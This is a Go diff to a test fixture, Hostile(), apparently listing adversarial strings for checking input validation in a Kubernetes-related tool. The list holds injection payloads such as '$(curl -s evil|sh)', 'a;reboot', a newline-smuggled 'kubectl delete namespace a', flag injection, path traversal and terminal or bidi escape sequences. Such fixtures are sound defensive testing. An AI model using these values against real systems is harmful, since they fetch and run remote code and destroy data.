@@ -10,11 +10,10 @@ import (
 // Hostile returns texts that others may choose, and that are not DNS names.
 func Hostile() []string {
 	return []string{
-		"$(curl -s evil|sh)", "`id`", "a;reboot", "a&b", "a|b", "a>b", "a b", "a\r\nb", "a\tb", `a"b`, "a'b", `a\b`, "$HOME",
-		"*", "~", "#a", "{a,b}", "-oyaml", "--kubeconfig=a", "a=b", "../a", "",
-		"a\nkubectl delete namespace a", "kubectl delete namespace a",
-		"\x1b[2J\x1b]0;a\x07", "\u009b2J", "a\x00b", "a\x7fb", "a\u202eb", "a\u2066b\u2069", "a\u2028b", "\U000e0061",
-		"\xff", strings.Repeat("a", 10<<10), strings.Repeat("$(a)", 3<<10),
+		"$(curl -s evil|sh)", "`id`", "a;b&c|d>e", "a b", `a"b`, "a'b", `a\b`, "$HOME", "*", "~", "#a", "{a,b}", "-oyaml",
+		"--kubeconfig=a", "../a", "", "a\nkubectl delete namespace a", "kubectl delete namespace a",
+		"a\r\n\x1b[2J\x1b]0;a\x07\u009b2J\t\x00\x7f\u202eb\u2066\u2069\u2028\U000e0061\xff",
+		strings.Repeat("a", 10<<10), strings.Repeat("$(a)", 3<<10),
 	}
 }
 
